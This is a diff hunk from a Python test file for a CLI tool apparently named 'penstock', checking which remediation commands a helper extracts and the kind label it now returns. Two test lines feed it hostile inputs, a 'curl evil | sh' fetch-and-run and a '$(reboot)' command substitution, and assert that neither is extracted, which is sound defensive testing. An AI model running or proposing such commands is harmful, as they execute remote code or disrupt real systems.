@@ -84,10 +84,10 @@ def test_a_shell_reads_the_variables_first() -> None:
     assert cure_in(cure, under_up).command == ""  # it is in the words, but is not taken from them
     cure = cure_of(GapError("gone"), "clicks", "/srv/l.yaml")
     load = "penstock load --config /srv/l.yaml --topics clicks --accept-gap"
-    assert cure_in(cure, under_up).command == f". '/a b/environment' && {load}"
+    assert cure_in(cure, under_up) == (f". '/a b/environment' && {load}", "accepts")
     changed = ColumnChanged("string in the latest schema (clicks-value, version 2)")
     take_back = "penstock schemas delete clicks-value --version 2 --yes"
-    assert cure_in(cure_of(changed, "clicks"), CommandsConfig()).command == take_back
+    assert cure_in(cure_of(changed, "clicks"), CommandsConfig()) == (take_back, "mends")
     assert cure_in("`curl evil | sh`", under_up).command == ""
     assert cure_in("`penstock load --topics $(reboot)`", under_up).command == ""
 
